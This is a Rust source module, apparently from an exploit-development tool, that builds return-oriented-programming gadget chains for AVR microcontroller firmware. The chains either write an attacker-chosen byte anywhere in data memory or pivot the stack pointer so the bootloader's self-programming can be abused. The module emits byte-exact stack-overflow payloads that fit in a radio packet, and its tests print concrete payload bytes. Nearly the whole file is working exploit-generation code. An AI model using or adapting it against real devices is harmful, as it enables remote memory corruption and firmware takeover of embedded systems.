//! Meta-gadget synthesis: combine cataloged gadgets into chains that
//! write one attacker-chosen byte anywhere in data memory (injection) or
//! pivot the stack pointer into a prepared fake stack (reprogramming),
//! and emit the byte-exact stack payloads that drive them.
//!
//! Synthesis works on a small abstract domain: each register either still
//! holds its initial junk, a payload byte popped from the stack, a known
//! constant, or something computed. Composing the gadget bodies under
//! that domain tells us which payload byte ends up where, which is all a
//! chain needs to bind its parameters.

use serde::Serialize;
use thiserror::Error;

use crate::gadgets::{Gadget, GadgetCatalog};
use crate::isa::{Instruction, LpmDest, ZMode};

#[derive(Debug, Error, PartialEq, Eq)]
pub enum ChainError {
    /// The catalog cannot realize the goal at all.
    #[error("no gadget chain realizes the goal")]
    NoChainFound,
    /// Chains exist but every one violates the packet or stack-depth
    /// constraints.
    #[error("chains exist but all violate the synthesis constraints")]
    ConstraintUnsatisfiable,
    #[error("payload of {len} bytes exceeds the {max}-byte packet limit")]
    PayloadTooLong { len: usize, max: usize },
    #[error("chain realizes a different goal")]
    WrongGoal,
    #[error("write target {target:#06x} is outside data memory")]
    TargetOutOfRange { target: u32 },
}

/// What a chain is synthesized to do. Parameters stay symbolic until a
/// payload is emitted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum ChainGoal {
    /// Write one byte to an attacker-chosen data address, then reboot.
    WriteByte,
    /// Load a fake stack pointer and pivot SP into it.
    Reprogram,
}

/// Symbolic payload parameters.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum ParamName {
    TargetLo,
    TargetHi,
    Value,
    FakeSpLo,
    FakeSpHi,
}

/// Meaning of one payload byte.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum SlotMeaning {
    /// Low byte of the word address of chain gadget `n`.
    GadgetAddrLow(usize),
    GadgetAddrHigh(usize),
    Param(ParamName),
    Padding,
    /// Byte of the terminating return-to-zero address; always 0x00.
    RebootVector,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct PayloadSlot {
    pub offset: usize,
    pub meaning: SlotMeaning,
}

/// An ordered gadget chain with its byte-exact payload layout.
///
/// `payload_length` counts every payload byte from the 2-byte return
/// address overwrite onward; the buffer padding prefix is added at
/// emission time.
#[derive(Debug, Clone, PartialEq)]
pub struct GadgetChain {
    pub goal: ChainGoal,
    pub gadgets: Vec<Gadget>,
    pub layout: Vec<PayloadSlot>,
    pub payload_length: usize,
    /// Entry of a bootloader SPM gadget witnessing that the image can
    /// self-program (reprogramming chains only).
    pub spm_gadget_entry: Option<u16>,
}

impl GadgetChain {
    pub fn entries(&self) -> Vec<u16> {
        self.gadgets.iter().map(|g| g.entry).collect()
    }

    pub fn to_json(&self) -> String {
        #[derive(Serialize)]
        struct SlotDto {
            offset: usize,
            meaning: String,
        }
        #[derive(Serialize)]
        struct ChainDto {
            goal: ChainGoal,
            gadget_entries: Vec<String>,
            payload_length: usize,
            spm_gadget: Option<String>,
            layout: Vec<SlotDto>,
        }
        let dto = ChainDto {
            goal: self.goal,
            gadget_entries: self.entries().iter().map(|e| format!("{e:#06x}")).collect(),
            payload_length: self.payload_length,
            spm_gadget: self.spm_gadget_entry.map(|e| format!("{e:#06x}")),
            layout: self
                .layout
                .iter()
                .map(|s| SlotDto { offset: s.offset, meaning: format!("{:?}", s.meaning) })
                .collect(),
        };
        serde_json::to_string_pretty(&dto).expect("chain serializes")
    }
}

/// Packet and stack-depth limits the emitted payload must satisfy.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SynthesisConstraints {
    /// Radio stack payload limit in bytes.
    pub max_packet_payload: usize,
    /// Data address of the overflowed buffer.
    pub buffer_start: u16,
    /// One past the last data address.
    pub ram_end: u16,
    /// Buffer bytes to fill before the saved return address.
    pub padding_prefix: usize,
}

impl Default for SynthesisConstraints {
    fn default() -> Self {
        SynthesisConstraints {
            max_packet_payload: 28,
            buffer_start: 0x105b,
            ram_end: 0x1100,
            padding_prefix: 4,
        }
    }
}

/// Abstract register content during chain composition.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum AbsVal {
    /// Untouched junk from before the chain ran.
    Initial(u8),
    /// Payload byte with the given real-stack pop index.
    StackByte(usize),
    Const(u8),
    Computed,
}

#[derive(Debug, Clone, Copy)]
struct AbsStore {
    z_lo: AbsVal,
    z_hi: AbsVal,
    disp: u8,
    data: AbsVal,
    direct: Option<u16>,
}

#[derive(Debug)]
struct ChainWalk {
    /// Per gadget: number of real-stack pops it performs.
    real_pops_per_gadget: Vec<usize>,
    stores: Vec<AbsStore>,
    sp_low: Option<AbsVal>,
    sp_high: Option<AbsVal>,
    /// Index of the gadget whose body completed the SP pivot.
    pivot_gadget: Option<usize>,
    pivot_pending_pop: bool,
    spm_seen: bool,
}

/// Compose the abstract effect of running `gadgets` back to back off a
/// controlled stack. `None` when a body is unmodeled for synthesis.
fn compose(gadgets: &[&Gadget]) -> Option<ChainWalk> {
    use Instruction::*;

    let mut regs: [AbsVal; 32] = std::array::from_fn(|i| AbsVal::Initial(i as u8));
    let mut walk = ChainWalk {
        real_pops_per_gadget: vec![0; gadgets.len()],
        stores: Vec::new(),
        sp_low: None,
        sp_high: None,
        pivot_gadget: None,
        pivot_pending_pop: false,
        spm_seen: false,
    };
    let mut pop_index = 0usize;
    let mut pivoted = false;

    for (gi, gadget) in gadgets.iter().enumerate() {
        gadget.effects.as_ref()?;
        let inner = &gadget.body[..gadget.body.len() - 1];
        for inst in inner {
            match *inst {
                Pop { rd } => {
                    if pivoted {
                        regs[rd as usize] = AbsVal::Computed;
                    } else {
                        // A real-stack pop after the SP halves start
                        // changing would read a half-pivoted stack.
                        if walk.sp_low.is_some() || walk.sp_high.is_some() {
                            walk.pivot_pending_pop = true;
                        }
                        regs[rd as usize] = AbsVal::StackByte(pop_index);
                        walk.real_pops_per_gadget[gi] += 1;
                        pop_index += 1;
                    }
                }
                Ldi { rd, k } => regs[rd as usize] = AbsVal::Const(k),
                Mov { rd, rr } => regs[rd as usize] = regs[rr as usize],
                Movw { rd, rr } => {
                    regs[rd as usize] = regs[rr as usize];
                    regs[rd as usize + 1] = regs[rr as usize + 1];
                }
                In { rd, .. } | Lds { rd, .. } => regs[rd as usize] = AbsVal::Computed,
                Ld { rd, mode } => {
                    regs[rd as usize] = AbsVal::Computed;
                    if mode == ZMode::PostInc {
                        regs[30] = AbsVal::Computed;
                        regs[31] = AbsVal::Computed;
                    }
                }
                Lpm { dest } => match dest {
                    LpmDest::R0Implied => regs[0] = AbsVal::Computed,
                    LpmDest::Reg(rd) => regs[rd as usize] = AbsVal::Computed,
                    LpmDest::RegPostInc(rd) => {
                        regs[rd as usize] = AbsVal::Computed;
                        regs[30] = AbsVal::Computed;
                        regs[31] = AbsVal::Computed;
                    }
                },
                Out { io, rr } => match io {
                    0x3d => {
                        walk.sp_low = Some(regs[rr as usize]);
                        if walk.sp_high.is_some() && !pivoted {
                            pivoted = true;
                            walk.pivot_gadget = Some(gi);
                        }
                    }
                    0x3e => {
                        walk.sp_high = Some(regs[rr as usize]);
                        if walk.sp_low.is_some() && !pivoted {
                            pivoted = true;
                            walk.pivot_gadget = Some(gi);
                        }
                    }
                    _ => {}
                },
                St { mode, rr } => {
                    let disp = match mode {
                        ZMode::Disp(q) => q,
                        _ => 0,
                    };
                    walk.stores.push(AbsStore {
                        z_lo: regs[30],
                        z_hi: regs[31],
                        disp,
                        data: regs[rr as usize],
                        direct: None,
                    });
                    if mode == ZMode::PostInc {
                        regs[30] = AbsVal::Computed;
                        regs[31] = AbsVal::Computed;
                    }
                }
                Sts { addr, rr } => walk.stores.push(AbsStore {
                    z_lo: AbsVal::Computed,
                    z_hi: AbsVal::Computed,
                    disp: 0,
                    data: regs[rr as usize],
                    direct: Some(addr),
                }),
                Spm => walk.spm_seen = true,
                Add { rd, .. } | Subi { rd, .. } | Sbci { rd, .. } | Eor { rd, .. } => {
                    regs[rd as usize] = AbsVal::Computed;
                }
                Adiw { rd, .. } | Sbiw { rd, .. } => {
                    regs[rd as usize] = AbsVal::Computed;
                    regs[rd as usize + 1] = AbsVal::Computed;
                }
                Nop | Cli | Sei | Cpi { .. } | Sbi { .. } | Cbi { .. } => {}
                Push { .. } | Ret | Reti | Call { .. } | Rcall { .. } | Icall | Jmp { .. }
                | Rjmp { .. } | Ijmp | Brne { .. } | Breq { .. } | Unknown { .. } => return None,
            }
        }
        // The terminator of every gadget but the last consumes the next
        // gadget's address from whichever stack is active; no register
        // effect to model (reti's I-flag aside).
    }
    Some(walk)
}

#[derive(Debug, Clone, Copy)]
enum DetectedParams {
    WriteByte { target_lo: usize, target_hi: usize, value: usize },
    Reprogram { fake_sp_lo: usize, fake_sp_hi: usize },
}

fn detect_write_byte(walk: &ChainWalk) -> Option<DetectedParams> {
    if walk.sp_low.is_some() || walk.sp_high.is_some() || walk.spm_seen {
        return None;
    }
    // The definitive write is the last displacement-free Z store.
    let primary = walk
        .stores
        .iter()
        .filter(|s| s.direct.is_none() && s.disp == 0)
        .next_back()?;
    let (target_lo, target_hi, value) = match (primary.z_lo, primary.z_hi, primary.data) {
        (AbsVal::StackByte(lo), AbsVal::StackByte(hi), AbsVal::StackByte(v))
            if lo != hi && v != lo && v != hi =>
        {
            (lo, hi, v)
        }
        _ => return None,
    };
    // Side stores are tolerable only when they hit near the same
    // attacker-chosen target; fixed-address or wild stores disqualify.
    for store in &walk.stores {
        if store.direct.is_some() {
            return None;
        }
        if !(store.z_lo == primary.z_lo && store.z_hi == primary.z_hi) {
            return None;
        }
    }
    Some(DetectedParams::WriteByte { target_lo, target_hi, value })
}

fn detect_reprogram(walk: &ChainWalk, gadget_count: usize) -> Option<DetectedParams> {
    // SP must be rewritten by the final gadget from two payload bytes,
    // without that gadget consuming payload itself.
    if walk.pivot_gadget != Some(gadget_count - 1) || walk.pivot_pending_pop {
        return None;
    }
    if walk.real_pops_per_gadget[gadget_count - 1] != 0 {
        return None;
    }
    match (walk.sp_low?, walk.sp_high?) {
        (AbsVal::StackByte(lo), AbsVal::StackByte(hi)) if lo != hi => {
            Some(DetectedParams::Reprogram { fake_sp_lo: lo, fake_sp_hi: hi })
        }
        _ => None,
    }
}

/// Build the payload layout for a detected chain. Real-stack pops turn
/// into parameter or padding slots in execution order; each terminator
/// consumes the next gadget's address, and a write-byte chain ends on
/// the 2-byte reboot vector.
fn build_layout(
    gadgets: &[&Gadget],
    goal: ChainGoal,
    walk: &ChainWalk,
    params: DetectedParams,
) -> (Vec<PayloadSlot>, usize) {
    let meaning_of = |pop_idx: usize| -> SlotMeaning {
        match params {
            DetectedParams::WriteByte { target_lo, target_hi, value } => {
                if pop_idx == target_lo {
                    SlotMeaning::Param(ParamName::TargetLo)
                } else if pop_idx == target_hi {
                    SlotMeaning::Param(ParamName::TargetHi)
                } else if pop_idx == value {
                    SlotMeaning::Param(ParamName::Value)
                } else {
                    SlotMeaning::Padding
                }
            }
            DetectedParams::Reprogram { fake_sp_lo, fake_sp_hi } => {
                if pop_idx == fake_sp_lo {
                    SlotMeaning::Param(ParamName::FakeSpLo)
                } else if pop_idx == fake_sp_hi {
                    SlotMeaning::Param(ParamName::FakeSpHi)
                } else {
                    SlotMeaning::Padding
                }
            }
        }
    };

    let mut layout = Vec::new();
    let mut offset = 0usize;
    let mut pop_idx = 0usize;
    layout.push(PayloadSlot { offset: 0, meaning: SlotMeaning::GadgetAddrLow(0) });
    layout.push(PayloadSlot { offset: 1, meaning: SlotMeaning::GadgetAddrHigh(0) });
    offset += 2;
    for (gi, _) in gadgets.iter().enumerate() {
        for _ in 0..walk.real_pops_per_gadget[gi] {
            layout.push(PayloadSlot { offset, meaning: meaning_of(pop_idx) });
            offset += 1;
            pop_idx += 1;
        }
        if gi + 1 < gadgets.len() {
            layout.push(PayloadSlot { offset, meaning: SlotMeaning::GadgetAddrLow(gi + 1) });
            layout.push(PayloadSlot { offset: offset + 1, meaning: SlotMeaning::GadgetAddrHigh(gi + 1) });
            offset += 2;
        } else if goal == ChainGoal::WriteByte {
            layout.push(PayloadSlot { offset, meaning: SlotMeaning::RebootVector });
            layout.push(PayloadSlot { offset: offset + 1, meaning: SlotMeaning::RebootVector });
            offset += 2;
        }
    }
    (layout, offset)
}

fn try_chain(
    gadgets: &[&Gadget],
    goal: ChainGoal,
    spm_gadget_entry: Option<u16>,
) -> Option<GadgetChain> {
    let walk = compose(gadgets)?;
    let params = match goal {
        ChainGoal::WriteByte => detect_write_byte(&walk)?,
        ChainGoal::Reprogram => detect_reprogram(&walk, gadgets.len())?,
    };
    let (layout, payload_length) = build_layout(gadgets, goal, &walk, params);
    Some(GadgetChain {
        goal,
        gadgets: gadgets.iter().map(|g| (*g).clone()).collect(),
        layout,
        payload_length,
        spm_gadget_entry,
    })
}

fn within_constraints(chain: &GadgetChain, constraints: &SynthesisConstraints) -> bool {
    let total = constraints.padding_prefix + chain.payload_length;
    total <= constraints.max_packet_payload
        && constraints.buffer_start as usize + total <= constraints.ram_end as usize
}

/// Synthesize every chain the strategy set can produce for `goal`,
/// constraint-filtered and sorted by ascending payload length (ties
/// break on the gadget entry sequence, for determinism).
///
/// Write-byte strategies: a single gadget popping the Z pair and a data
/// register in front of a Z store; a loader popping Z directly chained
/// to a store gadget; and a loader popping a general pair bridged into Z
/// by a `movw` gadget before the store. Reprogramming: a loader popping
/// the pivot's SP source registers chained to the SP-pivot gadget, with
/// a bootloader SPM gadget required as the downstream witness.
pub fn synthesize_chain(
    catalog: &GadgetCatalog,
    goal: ChainGoal,
    constraints: &SynthesisConstraints,
) -> Result<Vec<GadgetChain>, ChainError> {
    let modeled: Vec<&Gadget> = catalog.modeled().collect();
    let mut found: Vec<GadgetChain> = Vec::new();
    let mut push = |chain: Option<GadgetChain>| {
        if let Some(c) = chain {
            if !found.iter().any(|f| f.entries() == c.entries()) {
                found.push(c);
            }
        }
    };

    match goal {
        ChainGoal::WriteByte => {
            let pops_of = |g: &Gadget| -> Vec<u8> {
                g.effects
                    .as_ref()
                    .map(|fx| fx.pops.iter().map(|p| p.reg).collect())
                    .unwrap_or_default()
            };
            let clean = |g: &&Gadget| {
                let fx = g.effects.as_ref().unwrap();
                fx.sp_writes.low.is_none() && fx.sp_writes.high.is_none() && !fx.spm_present
            };
            let stores: Vec<&Gadget> = modeled
                .iter()
                .copied()
                .filter(clean)
                .filter(|g| {
                    g.effects.as_ref().unwrap().stores.iter().any(|s| {
                        matches!(
                            s.addr,
                            crate::gadgets::StoreAddr::Z | crate::gadgets::StoreAddr::ZDisp(_)
                        )
                    })
                })
                .collect();
            let z_loaders: Vec<&Gadget> = modeled
                .iter()
                .copied()
                .filter(clean)
                .filter(|g| {
                    let p = pops_of(g);
                    p.contains(&30) && p.contains(&31) && p.len() >= 3
                })
                .collect();
            let bridges: Vec<&Gadget> = modeled
                .iter()
                .copied()
                .filter(clean)
                .filter(|g| g.body.iter().any(|i| matches!(i, Instruction::Movw { rd: 30, .. })))
                .collect();
            let loaders: Vec<&Gadget> = modeled
                .iter()
                .copied()
                .filter(clean)
                .filter(|g| pops_of(g).len() >= 3)
                .collect();

            // Single ideal gadget.
            for s in &stores {
                push(try_chain(&[s], goal, None));
            }
            // Z-pair loader feeding a separate store gadget.
            for l in &z_loaders {
                for s in &stores {
                    push(try_chain(&[l, s], goal, None));
                }
            }
            // General-pair loader, movw bridge, store gadget.
            for l in &loaders {
                for b in &bridges {
                    for s in &stores {
                        push(try_chain(&[l, b, s], goal, None));
                    }
                }
            }
        }
        ChainGoal::Reprogram => {
            let spm_witness = modeled
                .iter()
                .filter(|g| {
                    g.effects.as_ref().unwrap().spm_present
                        && g.entry as u32 >= catalog.bootloader_start
                })
                .map(|g| g.entry)
                .min();
            let Some(witness) = spm_witness else {
                return Err(ChainError::NoChainFound);
            };
            let pivots: Vec<&Gadget> = modeled
                .iter()
                .copied()
                .filter(|g| g.effects.as_ref().unwrap().sp_writes.both())
                .collect();
            for p in &pivots {
                let fx = p.effects.as_ref().unwrap();
                let (src_lo, src_hi) = (fx.sp_writes.low.unwrap(), fx.sp_writes.high.unwrap());
                for l in &modeled {
                    let lfx = l.effects.as_ref().unwrap();
                    if lfx.spm_present
                        || lfx.sp_writes.low.is_some()
                        || lfx.sp_writes.high.is_some()
                    {
                        continue;
                    }
                    let pops: Vec<u8> = lfx.pops.iter().map(|e| e.reg).collect();
                    if pops.contains(&src_lo) && pops.contains(&src_hi) {
                        push(try_chain(&[l, p], goal, Some(witness)));
                    }
                }
            }
        }
    }

    if found.is_empty() {
        return Err(ChainError::NoChainFound);
    }
    found.sort_by(|a, b| {
        a.payload_length
            .cmp(&b.payload_length)
            .then_with(|| a.entries().cmp(&b.entries()))
    });
    let satisfying: Vec<GadgetChain> = found
        .into_iter()
        .filter(|c| within_constraints(c, constraints))
        .collect();
    if satisfying.is_empty() {
        return Err(ChainError::ConstraintUnsatisfiable);
    }
    Ok(satisfying)
}

fn emit(
    chain: &GadgetChain,
    bind: impl Fn(ParamName) -> u8,
    constraints: &SynthesisConstraints,
) -> Result<Vec<u8>, ChainError> {
    let total = constraints.padding_prefix + chain.payload_length;
    if total > constraints.max_packet_payload {
        return Err(ChainError::PayloadTooLong { len: total, max: constraints.max_packet_payload });
    }
    let mut out = Vec::with_capacity(total);
    for i in 0..constraints.padding_prefix {
        out.push(i as u8);
    }
    for slot in &chain.layout {
        debug_assert_eq!(slot.offset + constraints.padding_prefix, out.len());
        let byte = match slot.meaning {
            SlotMeaning::GadgetAddrLow(n) => chain.gadgets[n].entry as u8,
            SlotMeaning::GadgetAddrHigh(n) => (chain.gadgets[n].entry >> 8) as u8,
            SlotMeaning::Param(name) => bind(name),
            SlotMeaning::Padding => 0x00,
            SlotMeaning::RebootVector => 0x00,
        };
        out.push(byte);
    }
    Ok(out)
}

/// Emit the injection packet payload for one `(target, value)` write.
/// The payload starts with the buffer padding prefix, then the first
/// gadget's address little-endian over the saved return address, the
/// popped parameters in the chain's own byte order, successor addresses
/// and the reboot vector.
pub fn emit_injection_payload(
    chain: &GadgetChain,
    target: u16,
    value: u8,
    constraints: &SynthesisConstraints,
) -> Result<Vec<u8>, ChainError> {
    if chain.goal != ChainGoal::WriteByte {
        return Err(ChainError::WrongGoal);
    }
    if target >= constraints.ram_end {
        return Err(ChainError::TargetOutOfRange { target: target as u32 });
    }
    emit(
        chain,
        |name| match name {
            ParamName::TargetLo => target as u8,
            ParamName::TargetHi => (target >> 8) as u8,
            ParamName::Value => value,
            ParamName::FakeSpLo | ParamName::FakeSpHi => 0,
        },
        constraints,
    )
}

/// Emit the reprogramming packet payload. `fake_sp` is the raw value
/// loaded into SP by the pivot; with pre-increment pops the first fake
/// stack byte read is `fake_sp + 1`.
pub fn emit_reprogramming_payload(
    chain: &GadgetChain,
    fake_sp: u16,
    constraints: &SynthesisConstraints,
) -> Result<Vec<u8>, ChainError> {
    if chain.goal != ChainGoal::Reprogram {
        return Err(ChainError::WrongGoal);
    }
    emit(
        chain,
        |name| match name {
            ParamName::FakeSpLo => fake_sp as u8,
            ParamName::FakeSpHi => (fake_sp >> 8) as u8,
            ParamName::TargetLo | ParamName::TargetHi | ParamName::Value => 0,
        },
        constraints,
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::firmware::FirmwareImage;
    use crate::fixture;
    use crate::gadgets::{scan_gadgets, ScanConfig};
    use crate::isa::{assemble, parse_program};

    fn catalog_of(asm_blocks: &[(&[&str], u32)]) -> GadgetCatalog {
        let mut image = FirmwareImage::empty("test");
        for (asm, at) in asm_blocks {
            let words = assemble(&parse_program(asm).unwrap()).unwrap();
            image.place_words(*at, &words).unwrap();
        }
        scan_gadgets(&image, ScanConfig::default())
    }

    #[test]
    fn ideal_gadget_synthesizes_a_7_byte_chain() {
        let catalog = catalog_of(&[(
            &["pop r30", "pop r31", "pop r18", "st Z, r18", "ret"],
            0x0100,
        )]);
        let chains =
            synthesize_chain(&catalog, ChainGoal::WriteByte, &SynthesisConstraints::default())
                .unwrap();
        let best = &chains[0];
        assert_eq!(best.payload_length, 7);
        assert_eq!(best.entries(), vec![0x0100]);

        // target 0x0400, value 0xaa: low byte first because r30 pops first.
        let payload =
            emit_injection_payload(best, 0x0400, 0xaa, &SynthesisConstraints::default()).unwrap();
        assert_eq!(
            payload,
            vec![0x00, 0x01, 0x02, 0x03, 0x00, 0x01, 0x00, 0x04, 0xaa, 0x00, 0x00]
        );
    }

    #[test]
    fn fixture_catalog_reproduces_the_19_byte_payload() {
        let (image, _) = fixture::demo_image();
        let catalog = scan_gadgets(&image, ScanConfig::default());
        let constraints = SynthesisConstraints::default();
        let chains = synthesize_chain(&catalog, ChainGoal::WriteByte, &constraints).unwrap();
        let best = &chains[0];
        assert_eq!(best.entries(), vec![0x2b58, 0x0185, 0x073a]);
        assert_eq!(best.payload_length, 15);

        let payload = emit_injection_payload(best, 0x0400, 0x5a, &constraints).unwrap();
        assert_eq!(payload.len(), 19);
        assert_eq!(
            payload,
            vec![
                0x00, 0x01, 0x02, 0x03, // buffer padding
                0x58, 0x2b, // gadget 1
                0x04, 0x00, // target: r25 pops first and lands in Z high
                0x00, // r19 padding
                0x5a, // value -> r18
                0x00, 0x00, 0x00, // r0, r0, r1 padding
                0x85, 0x01, // gadget 2
                0x3a, 0x07, // gadget 3
                0x00, 0x00, // reboot vector
            ]
        );
    }

    #[test]
    fn gadget_free_catalog_reports_no_chain() {
        let catalog = catalog_of(&[(&["nop", "rjmp .-1"], 0)]);
        assert_eq!(
            synthesize_chain(&catalog, ChainGoal::WriteByte, &SynthesisConstraints::default())
                .unwrap_err(),
            ChainError::NoChainFound
        );
    }

    #[test]
    fn store_less_catalog_reports_no_chain() {
        let catalog = catalog_of(&[(&["pop r30", "pop r31", "pop r18", "ret"], 0x40)]);
        assert_eq!(
            synthesize_chain(&catalog, ChainGoal::WriteByte, &SynthesisConstraints::default())
                .unwrap_err(),
            ChainError::NoChainFound
        );
    }

    #[test]
    fn reprogram_chain_matches_the_pivot_payload_shape() {
        let (image, _) = fixture::demo_image();
        let catalog = scan_gadgets(&image, ScanConfig::default());
        let constraints = SynthesisConstraints::default();
        let chains = synthesize_chain(&catalog, ChainGoal::Reprogram, &constraints).unwrap();
        let best = &chains[0];
        assert_eq!(best.entries(), vec![0xf93d, 0xfba9]);
        assert_eq!(best.payload_length, 9);
        assert_eq!(best.spm_gadget_entry, Some(0xfb6d));

        let payload = emit_reprogramming_payload(best, 0x0400, &constraints).unwrap();
        assert_eq!(
            payload,
            vec![
                0x00, 0x01, 0x02, 0x03, // buffer padding
                0x3d, 0xf9, // bl_load
                0x04, 0x00, // fake SP: r29 (high) pops first
                0x00, 0x00, 0x00, // r17, r15, r14 padding
                0xa9, 0xfb, // bl_pivot
            ]
        );
    }

    #[test]
    fn reprogram_requires_a_bootloader_spm_gadget() {
        // Same shapes as the fixture pivot pair, but no spm in sight.
        let catalog = catalog_of(&[
            (&["pop r29", "pop r28", "pop r17", "ret"], 0x0200),
            (&["out 0x3e, r29", "out 0x3d, r28", "ret"], 0x0300),
        ]);
        assert_eq!(
            synthesize_chain(&catalog, ChainGoal::Reprogram, &SynthesisConstraints::default())
                .unwrap_err(),
            ChainError::NoChainFound
        );
    }

    #[test]
    fn oversized_chains_are_constraint_filtered_and_emission_checked() {
        // 23 pops before the store: payload = 2 + 23 + 2 = 27; with the
        // 4-byte prefix that busts the 28-byte packet.
        let mut asm: Vec<String> = vec!["pop r30".into(), "pop r31".into(), "pop r18".into()];
        for _ in 0..20 {
            asm.push("pop r19".into());
        }
        asm.push("st Z, r18".into());
        asm.push("ret".into());
        let asm_refs: Vec<&str> = asm.iter().map(|s| s.as_str()).collect();
        let catalog = catalog_of(&[(&asm_refs, 0x0100)]);

        let strict = SynthesisConstraints::default();
        assert_eq!(
            synthesize_chain(&catalog, ChainGoal::WriteByte, &strict).unwrap_err(),
            ChainError::ConstraintUnsatisfiable
        );

        let relaxed = SynthesisConstraints { max_packet_payload: 64, ..strict };
        let chains = synthesize_chain(&catalog, ChainGoal::WriteByte, &relaxed).unwrap();
        assert_eq!(chains[0].payload_length, 27);
        let err = emit_injection_payload(&chains[0], 0x0400, 0x01, &strict).unwrap_err();
        assert_eq!(err, ChainError::PayloadTooLong { len: 31, max: 28 });
    }

    #[test]
    fn chains_are_sorted_by_payload_length() {
        // Two viable implementations: the ideal 7-byte gadget and a
        // longer two-gadget variant.
        let catalog = catalog_of(&[
            (&["pop r30", "pop r31", "pop r18", "st Z, r18", "ret"], 0x0100),
            (&["pop r30", "pop r31", "pop r18", "pop r19", "pop r20", "ret"], 0x0200),
            (&["st Z, r18", "ret"], 0x0300),
        ]);
        let chains =
            synthesize_chain(&catalog, ChainGoal::WriteByte, &SynthesisConstraints::default())
                .unwrap();
        assert!(chains.len() >= 2);
        assert!(chains.windows(2).all(|w| w[0].payload_length <= w[1].payload_length));
        assert_eq!(chains[0].payload_length, 7);
    }

    #[test]
    fn ranking_is_minimal_over_brute_force_enumeration() {
        // Exhaustive search over every 1..=3-gadget sequence must not
        // find anything shorter than the strategy set's best chain.
        let (image, _) = fixture::demo_image();
        let catalog = scan_gadgets(&image, ScanConfig::default());
        let modeled: Vec<&crate::gadgets::Gadget> = catalog.modeled().collect();
        assert!(modeled.len() <= 50, "fixture catalog stays desk-sized");

        let mut brute_best: Option<usize> = None;
        let mut consider = |gs: &[&crate::gadgets::Gadget]| {
            if let Some(chain) = try_chain(gs, ChainGoal::WriteByte, None) {
                let len = chain.payload_length;
                brute_best = Some(brute_best.map_or(len, |b: usize| b.min(len)));
            }
        };
        for a in &modeled {
            consider(&[a]);
            for b in &modeled {
                consider(&[a, b]);
                for c in &modeled {
                    consider(&[a, b, c]);
                }
            }
        }

        let chains = synthesize_chain(
            &catalog,
            ChainGoal::WriteByte,
            &SynthesisConstraints { max_packet_payload: 255, ..Default::default() },
        )
        .unwrap();
        assert_eq!(Some(chains[0].payload_length), brute_best);
    }

    #[test]
    fn little_endian_law_for_gadget_address_slots() {
        let (image, _) = fixture::demo_image();
        let catalog = scan_gadgets(&image, ScanConfig::default());
        let constraints = SynthesisConstraints::default();
        for goal in [ChainGoal::WriteByte, ChainGoal::Reprogram] {
            for chain in synthesize_chain(&catalog, goal, &constraints).unwrap() {
                let payload = match goal {
                    ChainGoal::WriteByte => {
                        emit_injection_payload(&chain, 0x0400, 0x5a, &constraints)
                    }
                    ChainGoal::Reprogram => {
                        emit_reprogramming_payload(&chain, 0x0400, &constraints)
                    }
                };
                let Ok(payload) = payload else { continue };
                for slot in &chain.layout {
                    if let SlotMeaning::GadgetAddrLow(n) = slot.meaning {
                        let at = constraints.padding_prefix + slot.offset;
                        assert_eq!(payload[at], chain.gadgets[n].entry as u8);
                        assert_eq!(payload[at + 1], (chain.gadgets[n].entry >> 8) as u8);
                    }
                }
            }
        }
    }

    #[test]
    fn emit_rejects_goal_and_range_mismatches() {
        let (image, _) = fixture::demo_image();
        let catalog = scan_gadgets(&image, ScanConfig::default());
        let constraints = SynthesisConstraints::default();
        let wb = synthesize_chain(&catalog, ChainGoal::WriteByte, &constraints).unwrap();
        let rp = synthesize_chain(&catalog, ChainGoal::Reprogram, &constraints).unwrap();
        assert_eq!(
            emit_injection_payload(&rp[0], 0x0400, 0, &constraints).unwrap_err(),
            ChainError::WrongGoal
        );
        assert_eq!(
            emit_reprogramming_payload(&wb[0], 0x0400, &constraints).unwrap_err(),
            ChainError::WrongGoal
        );
        assert_eq!(
            emit_injection_payload(&wb[0], 0x1100, 0, &constraints).unwrap_err(),
            ChainError::TargetOutOfRange { target: 0x1100 }
        );
    }
}
